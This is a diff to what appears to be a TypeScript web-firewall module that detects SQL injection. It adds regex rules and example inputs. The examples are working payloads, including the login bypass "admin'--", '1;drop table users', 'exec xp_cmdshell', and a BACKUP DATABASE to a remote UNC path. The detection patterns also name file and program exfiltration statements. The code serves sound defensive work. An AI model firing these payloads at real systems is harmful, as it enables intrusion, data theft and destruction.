@@ -80,6 +80,11 @@ function functionCall(sql: string): boolean {
 
 /** A string closed after a word or at the start, then a comment that swallows the rest of the query. */
 const QUOTE_COMMENT = /(?:^|\w)['"`]\s*\)*\s*\/\*/;
+/**
+ * A value that is a string breakout and a comment and nothing else (`'--`, `' #`, `admin")-- -`):
+ * the login-bypass truncation, whatever the comment style.
+ */
+const QUOTE_COMMENT_END = /^[\w@.-]{0,40}['"`]\s*\)*\s*(?:--|#|\/\*)[\s+-]*$/;
 
 /** SQL words the tokenizer and keyword rules need: a plain value without one is never tokenized. */
 const SQL_WORDS: readonly string[] = [
@@ -120,11 +125,18 @@ const SYSTEM_OBJECT_WORDS: readonly string[] = [
   'schema_name',
   'table_name',
   'column_name',
+  'msdasql',
+  'sqloledb',
+  'msoledbsql',
 ];
 
-/** Names of system catalogues and sample databases, which no ordinary request mentions. */
+/**
+ * Names of system catalogues and sample databases, and the OLE DB providers of SQL Server's ad hoc
+ * queries (OPENROWSET/OPENDATASOURCE: MSDASQL, SQLOLEDB, MSOLEDBSQL), which no ordinary request
+ * mentions.
+ */
 const SYSTEM_OBJECTS =
-  /(?:^|[^\w])(?:information_schema|pg_catalog|pg_shadow|pg_user|pg_database|mysql\.(?:db|user|host)|sysobjects|syscolumns|sysdatabases|sysusers|msysaccessobjects|msysobjects|msysqueries|msysrelationships|sqlite_master|sqlite_temp_master|all_tables|all_tab_columns|user_tables|dba_users|tempdb|northwind|master\.\.sysdatabases|schema_name|table_name|column_name)(?:[^\w]|$)/;
+  /(?:^|[^\w])(?:information_schema|pg_catalog|pg_shadow|pg_user|pg_database|mysql\.(?:db|user|host)|sysobjects|syscolumns|sysdatabases|sysusers|msysaccessobjects|msysobjects|msysqueries|msysrelationships|sqlite_master|sqlite_temp_master|all_tables|all_tab_columns|user_tables|dba_users|tempdb|northwind|master\.\.sysdatabases|schema_name|table_name|column_name|msdasql|sqloledb|msoledbsql)(?:[^\w]|$)/;
 
 /** SQL keyword sequences no prose produces. */
 const KEYWORD_SEQUENCES = new RegExp(
@@ -140,8 +152,12 @@ const KEYWORD_SEQUENCES = new RegExp(
     String.raw`\bprocedure analyse\b`,
     String.raw`\bgroup by\b.{0,80}\bhaving\b`,
     String.raw`\bcase when\b.{0,80}\bthen\b`,
+    // Simple CASE with a literal after WHEN (`case 1 when 1 then`), not `test case 3 when run then`.
+    String.raw`\bcase [\w@$.'()]{1,40} when (?:-?\d+(?:\.\d+)?|'[^']{0,40}') then\b`,
     String.raw`\) ?like ?\(`,
     String.raw`\bif ?\( ?\d+ ?=`,
+    // A parenthesised tautology of one number used as an operand (`(5930=5930)*1`, sqlmap).
+    String.raw`\((?<n>\d{1,10}) ?= ?\k<n>\) ?[*+/-]`,
     String.raw`\bselect\b.{0,60}\bfrom\b ?[\x60(]`,
     String.raw`\b(?:order|group) by \d+ ?(?:--|#|$)`,
     String.raw`; ?(?:select|insert|update|delete|drop|create|alter|truncate|replace|declare|exec|shutdown)\b`,
@@ -156,7 +172,14 @@ const KEYWORD_SEQUENCES = new RegExp(
     String.raw`\b(?:select|union)\b.{0,40}\bnull ?, ?null\b`,
     "'(?: ?[|&]{2} ?')",
     String.raw`\bas ["\x60]\w+["\x60] ?from\b`,
-    String.raw`\bselect (?:pg_sleep|sleep|benchmark|load_file|current_user|version|database|@@\w+)\b`,
+    // A SELECT of a fingerprinting function or niladic value (MySQL, PostgreSQL, T-SQL references).
+    String.raw`\bselect (?:pg_sleep|sleep|benchmark|load_file|current_user|session_user|system_user|current_role|current_schema|current_catalog|current_database|current_setting|version|database|@@\w+)\b`,
+    // Statements that move data between the database and files or programs: T-SQL BACKUP/RESTORE
+    // and BULK INSERT, MySQL LOAD DATA INFILE, PostgreSQL COPY … PROGRAM.
+    String.raw`\b(?:backup|restore) (?:database|log) \S+ (?:to|from) (?:disk|url|tape)s? ?=`,
+    String.raw`\bbulk insert \S+ from ?'`,
+    String.raw`\bload data (?:local )?infile\b`,
+    String.raw`\bcopy \(?\w+\)? (?:from|to) program ?'`,
     // A system variable (`@@version`, `@@datadir`, MSSQL `@@servername`): no prose writes `@@`.
     String.raw`(?:^|[^\w@])@@[a-z_]{2,}\b`,
   ].join('|'),
@@ -199,6 +222,8 @@ export const SQLI_RULES: Rule[] = [
       "x' union select null--",
       '1;drop table users',
       "admin'--",
+      "' #",
+      '1--\nand--\n9227=9227',
       '1 union select 1',
     ],
     plain: true,
@@ -209,7 +234,10 @@ export const SQLI_RULES: Rule[] = [
     description: 'SQL token stream: tautology, UNION SELECT, stacked query or string breakout',
     // The SQL view drops comments: a string closed right before an unfinished `/*` (`admin'/*`)
     // is read on the lower-case view.
-    test: (v) => detectSqli(v.sql) || (v.lower.includes('/*') && QUOTE_COMMENT.test(v.lower)),
+    test: (v) =>
+      detectSqli(v.sql) ||
+      (v.lower.includes('/*') && QUOTE_COMMENT.test(v.lower)) ||
+      QUOTE_COMMENT_END.test(v.lower),
   },
   {
     id: 'sqli-function',
@@ -233,13 +261,16 @@ export const SQLI_RULES: Rule[] = [
       'exec xp_cmdshell',
       '1 group by 1 having 1=1',
       'print @@version',
+      'select session_user',
+      "backup database master to disk='\\\\10.0.0.1\\x\\db.bak'",
+      'select (case 1 when 1 then 1 else 0 end) from rdb$database',
     ],
     plain: true,
     family: 'sqli',
     paranoia: 1,
     score: SCORE.critical,
     description:
-      'SQL keyword sequence (UNION SELECT, WAITFOR DELAY, INTO OUTFILE, xp_cmdshell, casts, JSON operators)',
+      'SQL keyword sequence (UNION SELECT, WAITFOR DELAY, INTO OUTFILE, xp_cmdshell, casts, JSON operators, BACKUP DATABASE … TO DISK, BULK INSERT, LOAD DATA INFILE, COPY … PROGRAM)',
     test: (v) =>
       KEYWORD_SEQUENCES.test(v.sql) ||
       (v.lower.includes('/*') && /\/\*[!+]/.test(v.lower)) ||
@@ -250,13 +281,20 @@ export const SQLI_RULES: Rule[] = [
     view: 'lower',
     operator: 'pattern',
     triggers: { words: SYSTEM_OBJECT_WORDS },
-    examples: ['information_schema.tables', 'pg_catalog', 'sqlite_master', 'mysql.user', 'tempdb'],
+    examples: [
+      'information_schema.tables',
+      'pg_catalog',
+      'sqlite_master',
+      'mysql.user',
+      'tempdb',
+      "'msdasql'",
+    ],
     plain: true,
     family: 'sqli',
     paranoia: 1,
     score: SCORE.critical,
     kinds: ['query', 'query-name', 'body', 'body-name', 'body-raw', 'cookie', 'header'],
-    description: 'Database catalogue or sample-database name',
+    description: 'Database catalogue, sample-database or ad hoc query provider name',
     test: (v) => SYSTEM_OBJECTS.test(v.lower),
   },
   {
